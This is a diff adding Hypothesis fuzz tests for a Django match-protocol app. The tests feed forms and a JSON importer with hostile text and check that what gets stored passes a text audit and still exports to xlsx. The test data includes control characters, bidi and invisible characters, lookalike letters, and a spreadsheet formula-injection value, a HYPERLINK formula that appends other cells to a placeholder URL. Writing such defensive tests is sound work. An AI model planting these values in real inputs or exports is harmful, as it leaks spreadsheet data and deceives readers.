@@ -10,7 +10,20 @@ from league.models import Member, Season
 from protocol.models import Change, Event, Lot, Match
 from protocol.forms.chaotentrumpf import MAX_INVERSIONS
 
+# Texts the free-text boundary (protocol.rules.text) refuses, or must store and export exactly:
+# control characters, NUL, invisibles, names differing only by case or lookalike letters,
+# formula prefixes, decomposed umlauts, overlong names (issue 13).
+NASTY_TEXTS = st.one_of(
+    st.sampled_from(["Gast\x01X", "Anna\x1f", "\x7f", "\x1b[31m", "\u200b", "\u202eabc", "\ufeff", "bernd", "ANNA",
+                     "\u0410nna", "S\u0430bine", "Max, Max", "Max, max", "=1+1", "+49", "-x", "@home",
+                     '=HYPERLINK("http://x?"&A2&B2,"D")', "#N/A", "Jo\u0308rg", "x" * 81, "Gast\x00"]),
+    st.text(st.characters(categories=["Cc", "Cf", "Zs"]), min_size=1, max_size=4),
+    st.tuples(st.sampled_from(["", "=", "+", "-", "@"]), st.text(max_size=6)).map("".join))
+# In a file, JSON can also spell lone surrogates ("\ud800"); a browser never sends them.
+NASTY_FILE_TEXTS = st.one_of(NASTY_TEXTS, st.sampled_from(["Gast\ud800", "\udfff", "A\ud83dB"]))
+
 values = st.one_of(
+    NASTY_TEXTS,
     st.text(max_size=12), st.integers(-10**20, 10**20).map(str), st.sampled_from(
         ["", "0", "-1", "3", "10", "156", "1e9", "NaN", "∞", "suit:Pik", "rank:A", "card", "colour:rot",
          "Anna", "Bernd", "Zora", "normal", "totalultra", "X8 H8 P7", "KD", "on", "penalty", "warning",
@@ -46,6 +59,16 @@ def snapshot():
             list(Match.objects.values_list("version", "status", "settings")))
 
 
+def assert_stored_texts_pass():
+    """Whatever a request stored passes the text boundary, and the exports still work."""
+    from league.exports import season_xlsx
+    from league.models import Club
+    from protocol.text_audit import stored_text_problems
+    assert [f.line() for f in stored_text_problems()] == []
+    for club in Club.objects.all():
+        season_xlsx(club, None)
+
+
 def form_data(fields):
     return st.fixed_dictionaries({}, optional={f: values for f in fields})
 
@@ -77,6 +100,8 @@ def test_generated_form_data_never_breaks_a_match_form(secretary_client, played,
         assert response.status_code in OK, (response.status_code, data)
         if response.status_code != 302 or name == "game_preview":
             assert snapshot() == before, data
+        else:
+            assert_stored_texts_pass()
     post()
 
 
@@ -91,7 +116,37 @@ def test_generated_data_never_breaks_the_new_match_form(secretary_client, played
         assert response.status_code in OK
         if response.status_code != 302:
             assert snapshot() == before
+        else:
+            assert_stored_texts_pass()
     post()
+
+
+def test_generated_names_and_reasons_in_a_file_are_refused_or_stored_as_the_boundary_allows(secretary_client, played):
+    import json
+
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    from tests.unit.builders import quiet
+    url = reverse("protocol:import", kwargs={"slug": played.club.slug})
+    names = st.one_of(NASTY_FILE_TEXTS, st.sampled_from(["Anna", "Bernd", "Zora", "Gerda", "Holger"]))
+
+    @FUZZ
+    @given(st.lists(names, min_size=4, max_size=4), st.one_of(NASTY_FILE_TEXTS, st.just("laut")),
+           st.one_of(NASTY_FILE_TEXTS, st.just("Nürtingen")))
+    def upload(players, reason, place):
+        doc = {"format": "protocol/1", "ruleset": "chaotentrumpf", "date": "2026-11-20", "place": place,
+               "players": players, "scorekeeper": players[0], "settings": {},
+               "events": [quiet(players), {"warning": {"player": players[1], "reason": reason}}]}
+        before = snapshot()
+        raw = json.dumps(doc).encode()  # ASCII: control characters, NUL and surrogates as \u escapes
+        response = secretary_client.post(url, {"file": SimpleUploadedFile("p.json", raw)})
+        assert response.status_code in OK
+        if response.status_code != 302:
+            assert snapshot() == before
+            assert "nicht importiert" in response.content.decode()
+        else:
+            assert_stored_texts_pass()
+    upload()
 
 
 def test_generated_and_corrupted_files_never_break_the_importer(secretary_client, played):
@@ -172,6 +227,7 @@ def test_generated_data_never_breaks_the_secretarys_forms(secretary_client, play
         assert response.status_code in OK, (response.status_code, data)
         if response.status_code == 200:
             assert snapshot() == before
+        assert_stored_texts_pass()
     post()
 
 
